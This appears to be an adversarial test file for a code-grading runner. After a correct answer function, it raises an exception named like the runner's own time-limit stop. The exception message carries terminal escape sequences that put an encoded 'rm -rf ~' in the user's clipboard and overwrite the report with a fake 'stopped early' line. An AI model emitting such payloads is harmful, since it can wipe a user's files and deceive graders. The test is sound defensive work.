# Attack: an exception class named like the runner's stop (TimeLimit) whose text carries OSC 52
# (set the clipboard) and cursor-up/erase-line sequences, to print a fake "stopped early" line over
# the report. Only the runner's own stop is reported, and no report prints a control character.
# based-on: solved
# expect-score: 9
# %% answer: answer_add_intercept_column
def add_intercept_column(X):
    X = np.asarray(X, dtype=float)
    return np.column_stack([np.ones(X.shape[0]), X])
class TimeLimit(Exception):
    pass
raise TimeLimit("\x1b]52;c;cm0gLXJmIH4K\x07\x1b[1A\x1b[2K\rstopped early: everyone else copied \x1b[8mhidden\u202e")
